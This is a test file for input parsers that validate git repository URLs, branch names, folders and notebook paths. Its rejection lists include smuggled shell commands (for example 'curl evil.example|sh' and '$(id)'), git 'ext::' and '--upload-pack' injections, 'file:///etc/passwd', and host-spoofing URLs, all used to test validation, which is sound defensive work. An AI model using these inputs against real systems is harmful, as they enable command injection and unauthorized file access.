import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { parseBranch, parseFolder, parseNotebook, parseRepoUrl } from './repo';

describe('parseRepoUrl', () => {
	test.each([
		{
			raw: 'https://github.com/ryanmark1867/dl_structured_data_hands_on',
			url: 'https://github.com/ryanmark1867/dl_structured_data_hands_on',
		},
		{
			raw: 'https://github.com/ryanmark1867/dl_structured_data_hands_on.git',
			url: 'https://github.com/ryanmark1867/dl_structured_data_hands_on',
		},
		{ raw: 'https://github.com/a/b/', url: 'https://github.com/a/b' },
		{ raw: 'https://github.com/a/b.git/', url: 'https://github.com/a/b' },
		{ raw: '  https://gitlab.com/team-1/my.repo  ', url: 'https://gitlab.com/team-1/my.repo' },
		{ raw: 'https://codeberg.org/x/y_z', url: 'https://codeberg.org/x/y_z' },
		{ raw: 'https://bitbucket.org/x/y-z', url: 'https://bitbucket.org/x/y-z' },
		// Owners with dots and underscores exist outside GitHub.
		{ raw: 'https://gitlab.com/my.group/repo', url: 'https://gitlab.com/my.group/repo' },
		{ raw: 'https://bitbucket.org/team_x/repo', url: 'https://bitbucket.org/team_x/repo' },
		{ raw: 'https://codeberg.org/a_b/c', url: 'https://codeberg.org/a_b/c' },
		{ raw: 'https://gitlab.com/_x/y', url: 'https://gitlab.com/_x/y' },
		// GitLab projects inside subgroups.
		{ raw: 'https://gitlab.com/uni/course-2026/labs', url: 'https://gitlab.com/uni/course-2026/labs' },
		{ raw: 'gitlab.com/a/b/c/d.git/', url: 'https://gitlab.com/a/b/c/d' },
		// A group under 20 others, and its project: GitLab's deepest.
		{ raw: `https://gitlab.com/${'g/'.repeat(21)}p`, url: `https://gitlab.com/${'g/'.repeat(21)}p` },
		{ raw: 'https://gitlab.com/team/src', url: 'https://gitlab.com/team/src' },
		// Names one host reserves are accounts on the others.
		{ raw: 'https://codeberg.org/users/x', url: 'https://codeberg.org/users/x' },
		{ raw: 'https://codeberg.org/groups/x', url: 'https://codeberg.org/groups/x' },
		{ raw: 'https://gitlab.com/user/x', url: 'https://gitlab.com/user/x' },
		{ raw: 'https://gitlab.com/org/x', url: 'https://gitlab.com/org/x' },
		{ raw: 'https://bitbucket.org/users/x', url: 'https://bitbucket.org/users/x' },
	])('accepts $raw as $url', ({ raw, url }) => {
		const parsed = parseRepoUrl(raw);
		expect(parsed.ok && parsed.value.url).toBe(url);
	});

	test('splits host, owner and name; a written .git leaves both the name and the URL, so either form gives the same commands', () => {
		expect(parseRepoUrl('https://gitlab.com/o-1/n.x.git')).toEqual({
			ok: true,
			value: { host: 'gitlab.com', owner: 'o-1', name: 'n.x', url: 'https://gitlab.com/o-1/n.x' },
		});
		expect(parseRepoUrl('https://gitlab.com/o-1/n.x.git')).toEqual(parseRepoUrl('https://gitlab.com/o-1/n.x'));
	});

	test.each([
		'http://github.com/a/b',
		'https://GitHub.com/a/b',
		'https://github.com/a',
		'https://github.com/a/b/c',
		'https://github.com/a/b?tab=readme',
		'https://github.com/a/b#readme',
		'https://github.com:443/a/b',
		'https://user@github.com/a/b',
		'https://github.com@evil.example/a/b',
		'https://github.com.evil.example/a/b',
		'https://g\u0456thub.com/a/b',
		'https://xn--gthub-2ve.com/a/b',
		'https://github.com/-a/b',
		'https://github.com/a/-b',
		'https://github.com/a/.b',
		'https://github.com/a/..',
		'https://github.com/a/b..c',
		'https://github.com/a/.git',
		'https://github.com/a_b/c',
		'https://github.com/a.b/c',
		'https://gitlab.com/.x/y',
		'https://gitlab.com/-x/y',
		'https://gitlab.com/a..b/y',
		'https://codeberg.org/../y',
		`https://github.com/${'o'.repeat(40)}/b`,
		`https://github.com/a/${'n'.repeat(101)}`,
		'https://github.com/a/b;curl evil.example|sh',
		'https://github.com/a/b\ncurl',
		'git@github.com:a/b.git',
		'ext::sh -c touch% /tmp/pwned',
		'file:///etc/passwd',
		'javascript:alert(1)',
		// Only GitLab's own `?ref_type=heads` on a branch or file page is dropped; any other query stays a refusal.
		'https://gitlab.com/a/b?ref_type=heads',
		'https://gitlab.com/a/b/-/tree/dev?ref_type=tags',
		'https://gitlab.com/a/b/-/tree/dev?ref_type=heads&x=1',
		'https://github.com/a/b/tree/dev?ref_type=heads',
		// A name still ending in `.git` once one is dropped would read back as another repository.
		'https://github.com/a/b.git.git',
		'https://gitlab.com/a/b.git.git/',
		// The hosts' own pages are not accounts.
		'https://gitlab.com/groups/g1/sub',
		'https://gitlab.com/users/alice',
		'https://gitlab.com/dashboard/projects',
		'https://gitlab.com/api/v4',
		'https://codeberg.org/user/login',
		'https://codeberg.org/explore/repos',
		'https://bitbucket.org/account/signin',
		// Subgroups are GitLab's only; its own page names below a group are pages, not projects.
		'https://github.com/a/b/c',
		'https://codeberg.org/a/b/c',
		'https://bitbucket.org/a/b/c',
		'https://gitlab.com/a/b/c/tree/main',
		'https://gitlab.com/a/b/c/blob/main/x.ipynb',
		'https://gitlab.com/a/b/-/issues',
		'https://gitlab.com/a/-/tree/main',
		'https://gitlab.com/a/../c',
		'https://gitlab.com/a/.b/c',
		`https://gitlab.com/${'g/'.repeat(22)}p`,
		'https://gitlab.com/a/tree',
	])('refuses %j', (raw) => {
		expect(parseRepoUrl(raw)).toEqual({ ok: false, reason: 'rejected' });
	});

	test.each([
		{ raw: '', reason: 'empty' },
		{ raw: '   ', reason: 'empty' },
		{ raw: `https://github.com/a/${'b'.repeat(10_000)}`, reason: 'too-large' },
	])('refuses $reason input', ({ raw, reason }) => {
		expect(parseRepoUrl(raw)).toEqual({ ok: false, reason });
	});
});

describe('parseBranch', () => {
	test('every name it accepts, git accepts as a branch name (git check-ref-format)', () => {
		const token = fc.constantFrom('a', 'B', '7', '.', '/', '-', '_', 'lock', '.lock', '..', 'HEAD', 'main');
		const names = fc.sample(
			fc.array(token, { minLength: 1, maxLength: 7 }).map((t) => t.join('')),
			{ numRuns: 400, seed: 7 },
		);
		const accepted = [...new Set(names)].filter((name) => parseBranch(name).ok);
		expect(accepted.length, 'the sample holds accepted names').toBeGreaterThan(50);
		// One shell for the lot: a line per name git refuses.
		const script = 'while IFS= read -r n; do git check-ref-format --branch "$n" >/dev/null 2>&1 || printf "%s\\n" "$n"; done';
		const run = spawnSync('bash', ['-c', script], { input: `${accepted.join('\n')}\n`, encoding: 'utf8' });
		expect(run.status).toBe(0);
		expect(run.stdout.split('\n').filter(Boolean), 'accepted here, refused by git').toEqual([]);
	});

	test.each(['master', 'main', 'feature/x-1', 'v1.2.3', 'release_2026'])('accepts %s', (raw) => {
		expect(parseBranch(raw)).toEqual({ ok: true, value: raw });
	});
	test.each([
		'HEAD',
		'-b',
		'--upload-pack=x',
		'a..b',
		'a//b',
		'a/',
		'/a',
		'a.lock',
		'x.lock/y',
		'a/.b',
		'a.',
		'a b',
		'a;b',
		'a$(id)',
		'a`id`',
		'{x}',
		'a~1',
		'a:b',
		'x'.repeat(101),
	])('refuses %j', (raw) => {
		expect(parseBranch(raw).ok).toBe(false);
	});
});

describe('parseFolder', () => {
	test.each(['dl_workshop', 'courses/dl-2026', 'a.b'])('accepts %s', (raw) => {
		expect(parseFolder(raw)).toEqual({ ok: true, value: raw });
	});
	test('drops one leading slash', () => {
		expect(parseFolder('/courses/dl')).toEqual({ ok: true, value: 'courses/dl' });
		expect(parseFolder('//courses').ok).toBe(false);
	});
	test.each(['My Drive', '../x', 'a/../b', '/', '//abs', 'a/', 'a//b', '-x', '$HOME', '{x}', 'a"b', 'é', 'x'.repeat(101)])(
		'refuses %j',
		(raw) => {
			expect(parseFolder(raw).ok).toBe(false);
		},
	);
});

describe('parseNotebook', () => {
	test.each(['notebooks/streetcar_model_training.ipynb', 'a.ipynb', 'x/y/z-1.ipynb'])('accepts %s', (raw) => {
		expect(parseNotebook(raw)).toEqual({ ok: true, value: raw });
	});
	test.each(['notebook.py', 'a/.ipynb', '../a.ipynb', 'a b.ipynb', 'a.ipynb;x', 'javascript:x.ipynb'])('refuses %j', (raw) => {
		expect(parseNotebook(raw).ok).toBe(false);
	});
});

describe('refs that deliver outsiders’ code', () => {
	test.each([
		'refs/pull/1/head',
		'refs/heads/main',
		'REFS/pull/1/head',
		'pull/1/head',
		'pull/42/merge',
		'x/pull/7',
		'Pull/1/head',
		'merge-requests/3/head',
		'refs/merge-requests/3/head',
		'pull-requests/12/from',
		'0123456',
		'0123456789abcdef0123456789abcdef01234567',
		'DEADBEEF',
		'abcdef0',
	])('refuses %j as a branch', (raw) => {
		expect(parseBranch(raw)).toEqual({ ok: false, reason: 'rejected' });
	});
	test.each([
		'pull',
		'pull/x',
		'pulls/1',
		'my-pull/1',
		'refsx/pull',
		'abcdef',
		'cafe',
		'v1.2.3',
		'deadbeefz',
		`a${'0'.repeat(40)}`,
		'0'.repeat(41),
		'feature/pull',
	])('still accepts %j', (raw) => {
		expect(parseBranch(raw)).toEqual({ ok: true, value: raw });
	});
});

describe('GitHub’s reserved first segments', () => {
	test.each([
		'apps/evil-app',
		'orgs/x',
		'settings/profile',
		'marketplace/x',
		'sponsors/x',
		'features/x',
		'topics/x',
		'collections/x',
		'login/x',
		'Apps/x',
	])('refuses https://github.com/%s', (path) => {
		expect(parseRepoUrl(`https://github.com/${path}`)).toEqual({ ok: false, reason: 'rejected' });
	});
	test('are owners elsewhere', () => {
		expect(parseRepoUrl('https://gitlab.com/apps/x').ok).toBe(true);
	});
});

test('escapes every dot of every host', () => {
	for (const raw of ['https://githubxcom/a/b', 'https://codebergxorg/a/b', 'https://gitlab.com/a/b'.replace('.com', 'Xcom')])
		expect(parseRepoUrl(raw).ok).toBe(false);
});

describe('unambiguous ways of writing a repository', () => {
	const repo = (url: string, branch?: string, notebook?: string) => ({
		ok: true,
		value: { ...parseOk(url), ...(branch ? { branch } : {}), ...(notebook ? { notebook } : {}) },
	});
	function parseOk(url: string) {
		const parsed = parseRepoUrl(url);
		if (!parsed.ok) throw new Error(url);
		return parsed.value;
	}
	test.each([
		{ raw: 'github.com/acme/keras-101', url: 'https://github.com/acme/keras-101' },
		{ raw: 'gitlab.com/acme/k.git', url: 'https://gitlab.com/acme/k' },
		{ raw: 'https://github.com/acme/keras-101/tree/main', url: 'https://github.com/acme/keras-101', branch: 'main' },
		{ raw: 'github.com/acme/keras-101/tree/feature/x/', url: 'https://github.com/acme/keras-101', branch: 'feature/x' },
		{ raw: 'https://gitlab.com/acme/k/-/tree/dev', url: 'https://gitlab.com/acme/k', branch: 'dev' },
		{ raw: 'https://gitlab.com/acme/k/tree/dev', url: 'https://gitlab.com/acme/k', branch: 'dev' },
		{ raw: 'https://gitlab.com/uni/ml/k/-/tree/feature/x', url: 'https://gitlab.com/uni/ml/k', branch: 'feature/x' },
		{
			raw: 'gitlab.com/uni/ml/term-1/k/-/blob/main/nb/a.ipynb?ref_type=heads',
			url: 'https://gitlab.com/uni/ml/term-1/k',
			branch: 'main',
			notebook: 'nb/a.ipynb',
		},
		// As GitLab's address bar shows a branch page.
		{ raw: 'https://gitlab.com/acme/k/-/tree/feature/x?ref_type=heads', url: 'https://gitlab.com/acme/k', branch: 'feature/x' },
		{
			raw: 'gitlab.com/acme/k/-/blob/main/nb/a.ipynb?ref_type=heads',
			url: 'https://gitlab.com/acme/k',
			branch: 'main',
			notebook: 'nb/a.ipynb',
		},
		{ raw: 'https://codeberg.org/acme/k/src/branch/dev', url: 'https://codeberg.org/acme/k', branch: 'dev' },
		{ raw: 'https://bitbucket.org/acme/k/src/dev/', url: 'https://bitbucket.org/acme/k', branch: 'dev' },
		// Folder pages of a default branch: `main/notebooks` cannot be a branch beside `main`.
		{ raw: 'https://github.com/acme/k/tree/main/notebooks', url: 'https://github.com/acme/k', branch: 'main' },
		{ raw: 'github.com/acme/k/tree/master/notebooks/data/', url: 'https://github.com/acme/k', branch: 'master' },
		{ raw: 'https://gitlab.com/acme/k/-/tree/main/notebooks', url: 'https://gitlab.com/acme/k', branch: 'main' },
		{ raw: 'https://codeberg.org/acme/k/src/branch/main/notebooks', url: 'https://codeberg.org/acme/k', branch: 'main' },
		{ raw: 'https://bitbucket.org/acme/k/src/master/notebooks/', url: 'https://bitbucket.org/acme/k', branch: 'master' },
		// Another first segment may be a branch with a slash: the whole path stays the branch.
		{ raw: 'https://github.com/acme/k/tree/mainline/x', url: 'https://github.com/acme/k', branch: 'mainline/x' },
		{ raw: 'https://github.com/acme/k/tree/main', url: 'https://github.com/acme/k', branch: 'main' },
		// Dotted branch names are not file names.
		{ raw: 'https://codeberg.org/acme/k/src/branch/release/1.x', url: 'https://codeberg.org/acme/k', branch: 'release/1.x' },
		{ raw: 'https://bitbucket.org/acme/k/src/v1.2', url: 'https://bitbucket.org/acme/k', branch: 'v1.2' },
		// Where file pages have their own form (GitHub's blob/), a tree page's path is always a branch.
		{ raw: 'https://github.com/acme/k/tree/fix-package.json', url: 'https://github.com/acme/k', branch: 'fix-package.json' },
		// A notebook's page inside a default branch names the branch and the notebook.
		{
			raw: 'https://github.com/acme/k/blob/main/notebooks/train.ipynb',
			url: 'https://github.com/acme/k',
			branch: 'main',
			notebook: 'notebooks/train.ipynb',
		},
		{ raw: 'github.com/acme/k/blob/master/x.ipynb', url: 'https://github.com/acme/k', branch: 'master', notebook: 'x.ipynb' },
		{ raw: 'https://gitlab.com/acme/k/-/blob/main/nb/a.ipynb', url: 'https://gitlab.com/acme/k', branch: 'main', notebook: 'nb/a.ipynb' },
		{ raw: 'https://codeberg.org/acme/k/src/branch/main/a.ipynb', url: 'https://codeberg.org/acme/k', branch: 'main', notebook: 'a.ipynb' },
		{
			raw: 'https://bitbucket.org/acme/k/src/master/nb/a.ipynb',
			url: 'https://bitbucket.org/acme/k',
			branch: 'master',
			notebook: 'nb/a.ipynb',
		},
		// Another file's page inside a default branch names only the branch.
		{ raw: 'https://github.com/acme/k/blob/main/README.md', url: 'https://github.com/acme/k', branch: 'main' },
	])('reads $raw', ({ raw, url, branch, notebook }) => {
		expect(parseRepoUrl(raw)).toEqual(repo(url, branch, notebook));
	});
	test.each([
		'https://github.com/acme/k/tree/refs/pull/1/head',
		'https://github.com/acme/k/tree/0123456789abcdef0123456789abcdef01234567',
		'https://github.com/acme/k/tree/pull/1',
		'https://github.com/acme/k/tree/',
		'https://github.com/acme/k/tree/a;b',
		// A file page of another branch: where its name ends and the path begins is unknown.
		'https://github.com/acme/k/blob/dev/x.ipynb',
		'https://github.com/acme/k/blob/feature/x/nb.ipynb',
		// Codeberg and Bitbucket show files and branches at the same kind of path: a file's page
		// of another branch is refused there too, rather than read as a branch named after the file.
		'https://codeberg.org/team_x/nbs/src/branch/dev/notebooks/train.ipynb',
		'https://bitbucket.org/team.x/nbs/src/dev/notebooks/train.ipynb',
		'https://bitbucket.org/acme/k/src/dev/README.md',
		'https://codeberg.org/acme/k/src/branch/feature/x/data.csv',
		'https://bitbucket.org/a/b/src/dev/Makefile',
		'https://bitbucket.org/a/b/src/dev/models/net.pkl',
		'https://github.com/acme/k/blob/main/-x.ipynb',
		'https://github.com/acme/k/blob/main/a/../../x.ipynb',
		'https://github.com/acme/k.git/blob/main/x.ipynb',
		'https://github.com/acme/k/-/tree/main',
		'https://github.com/acme/k/src/branch/main',
		'https://gitlab.com/acme/k/src/main',
		'https://codeberg.org/acme/k/tree/main',
		'https://bitbucket.org/acme/k/tree/main',
		'https://github.com/acme/k.git/tree/main',
		'http://github.com/acme/k/tree/main',
		'www.github.com/acme/k',
		'GitHub.com/acme/k',
		'evil.example/github.com/acme/k',
		'github.com:acme/k',
		'//github.com/acme/k',
		'github.com/apps/evil-app',
	])('still refuses %j', (raw) => {
		expect(parseRepoUrl(raw).ok).toBe(false);
	});
});

describe('parseNotebook leading slash', () => {
	test('drops one leading slash', () => {
		expect(parseNotebook('/notebooks/train.ipynb')).toEqual({ ok: true, value: 'notebooks/train.ipynb' });
		expect(parseNotebook('//notebooks/train.ipynb').ok).toBe(false);
	});
});
